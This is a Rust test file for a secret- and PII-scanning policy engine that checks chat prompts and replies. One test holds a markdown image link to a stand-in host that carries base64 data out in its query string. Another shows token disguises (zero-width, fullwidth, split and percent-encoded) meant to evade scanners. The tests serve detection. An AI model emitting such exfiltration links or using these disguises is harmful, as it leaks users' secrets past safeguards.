//! What the built-in policies make of findings, and what is wrong with others.

use super::*;
use crate::secrets::samples;

fn spec() -> PolicySpec {
    PolicySpec::cloud()
}

/// What a policy makes of the first finding of a category.
fn action(policy: &Policy, direction: Direction, text: &str, category: &str) -> Option<Action> {
    let findings = policy.scan_all(direction, text);
    findings.iter().find(|finding| finding.category.as_str() == category).map(|finding| finding.action)
}

#[test]
fn later_entries_win() {
    let selector = |text: &str| text.parse::<Selector>().unwrap();
    let mut samples = samples::formats(1).into_iter();
    let sample = samples.find(|sample| sample.category == "github-pat").unwrap();
    let mut spec = spec();
    for (entry, expected) in [
        ("github-pat", Action::Alert),
        ("secret", Action::Redact),
        ("*", Action::Allow),
        ("github-pat", Action::Block),
    ] {
        spec.prompt.push((selector(entry), expected));
        let policy = Policy::compile(spec.clone()).unwrap();
        assert_eq!(action(&policy, Direction::Prompt, &sample.text, "github-pat"), Some(expected), "{entry}");
    }
}

#[test]
fn what_is_selected_must_exist() {
    let mut spec = spec();
    spec.reply.push((Selector::Category("us_snn".to_owned()), Action::Redact));
    let error = Policy::compile(spec).err().unwrap().to_string();
    assert!(error.starts_with("policy `cloud`: nothing is called `us_snn`: use `*`, a group"), "{error}");
}

#[test]
fn prompts_with_keys_are_blocked_and_replies_redacted() {
    let policy = Policy::compile(spec()).unwrap();
    let sample = samples::others(1).swap_remove(0);
    assert_eq!(action(&policy, Direction::Prompt, &sample.text, "private_key"), Some(Action::Block));
    assert_eq!(action(&policy, Direction::Reply, &sample.text, "private_key"), Some(Action::Redact));
}

#[test]
fn published_examples_are_told_of_at_most() {
    let text = format!("aws_access_key: AKIA{}EXAMPLE", "IOSFODNN7");
    for spec in [PolicySpec::cloud(), PolicySpec::on_prem()] {
        let policy = Policy::compile(spec).unwrap();
        assert_eq!(action(&policy, Direction::Prompt, &text, "aws-access-token"), Some(Action::Alert));
    }
}

#[test]
fn the_address_of_a_machine_may_be_letters_alone() {
    let policy = Policy::compile(PolicySpec::cloud()).unwrap();
    let found = policy.scan_all(Direction::Prompt, "it is AA:BB:CC:DD:EE:FF there");
    assert_eq!(found.iter().map(|finding| finding.category.as_str()).collect::<Vec<_>>(), ["mac_address"]);
}

#[test]
fn addresses_that_everybody_or_nobody_has_are_told_of_at_most() {
    let policy = Policy::compile(spec()).unwrap();
    let made_of = |text: &str, category| action(&policy, Direction::Prompt, text, category);
    for (text, expected) in [
        ("write to ada@lovelace.org", Action::Redact),
        ("write to ada@mail.example.com", Action::Alert),
        ("write to ada@office.test", Action::Alert),
    ] {
        assert_eq!(made_of(text, "email"), Some(expected), "{text}");
    }
    for (text, expected) in [
        ("the server is 85.214.132.117", Action::Redact),
        ("the server is 192.168.178.20", Action::Alert),
        ("the server is 172.31.0.20", Action::Alert),
        ("the server is 172.32.0.20", Action::Redact),
    ] {
        assert_eq!(made_of(text, "ip_address"), Some(expected), "{text}");
    }
}

#[test]
fn replies_may_have_addresses_of_mail_but_no_loaded_links() {
    let policy = Policy::compile(spec()).unwrap();
    assert_eq!(policy.scan(Direction::Reply, "Write to ada@lovelace.org"), []);
    let text = "![](https://bad.example/p.png?d=bXkgc2VjcmV0IGlzIGhpZGRlbg)";
    assert_eq!(action(&policy, Direction::Reply, text, "url_exfiltration"), Some(Action::Redact));
    assert_eq!(policy.scan(Direction::Prompt, text), []);
}

#[test]
fn a_policy_that_allows_everything_is_not_active() {
    let policy = Policy::compile(PolicySpec { prompt: vec![], reply: vec![], ..spec() }).unwrap();
    for direction in Direction::ALL {
        assert!(!policy.is_active(direction) && !policy.rewrites(direction));
    }
    let policy = Policy::compile(spec()).unwrap();
    assert!(
        Direction::ALL.into_iter().all(|direction| policy.is_active(direction) && policy.rewrites(direction))
    );
}

#[test]
fn versions_tell_policies_apart() {
    let version = |spec| Policy::compile(spec).unwrap().version().to_owned();
    assert_eq!(version(spec()), version(spec()));
    assert_ne!(version(spec()), version(PolicySpec::on_prem()));
    assert_ne!(version(spec()), version(PolicySpec { allowed_hosts: vec!["a".to_owned()], ..spec() }));
}

#[test]
fn what_stands_to_the_left_is_context() {
    let policy = Policy::compile(spec()).unwrap();
    let secret =
        samples::vendors(1).into_iter().find(|sample| sample.category == "datadog-access-token").unwrap();
    let starts = |text: &str, left| {
        let findings = policy.scan_behind(Direction::Prompt, text, left);
        findings.iter().map(|finding| finding.range.start).collect::<Vec<_>>()
    };
    assert_eq!(starts(&secret.secret, 0), [0; 0]);
    let text = format!("datadog_key: {}", secret.secret);
    assert_eq!(starts(&text, 13), [13]);
    assert_eq!(starts(&format!("{text} ok"), text.len() + 1), [0; 0]);
}

#[test]
fn findings_never_overlap_and_come_in_order() {
    let policy = Policy::compile(spec()).unwrap();
    let text: String = samples::others(3).iter().map(|sample| format!("{}\n", sample.text)).collect();
    let findings = policy.scan(Direction::Prompt, &text);
    assert!(findings.len() >= 6);
    assert!(findings.is_sorted_by(|a, b| a.range.end <= b.range.start), "{findings:?}");
}

#[test]
fn a_disguise_is_part_of_a_finding() {
    let policy = Policy::compile(spec()).unwrap();
    let token =
        samples::formats(1).into_iter().find(|sample| sample.category == "github-pat").unwrap().secret;
    let invisible: String = token.chars().flat_map(|c| [c, '\u{200B}']).collect();
    let invisible = invisible.trim_end_matches('\u{200B}').to_owned();
    let wide: String = token.chars().filter_map(|c| char::from_u32(c as u32 + 0xFEE0)).collect();
    let four: Vec<&str> =
        (0..token.len()).step_by(4).map(|at| &token[at..(at + 4).min(token.len())]).collect();
    let escaped: String = token.bytes().map(|byte| format!("%{byte:02X}")).collect();
    for disguised in [invisible, wide, four.join(" "), escaped] {
        let text = format!("Here it is: {disguised}\nThanks");
        let findings = policy.scan(Direction::Prompt, &text);
        let redacted = crate::label(&text, &findings);
        assert_eq!(redacted, "Here it is: [REDACTED:github-pat]\nThanks", "{disguised}");
    }
}
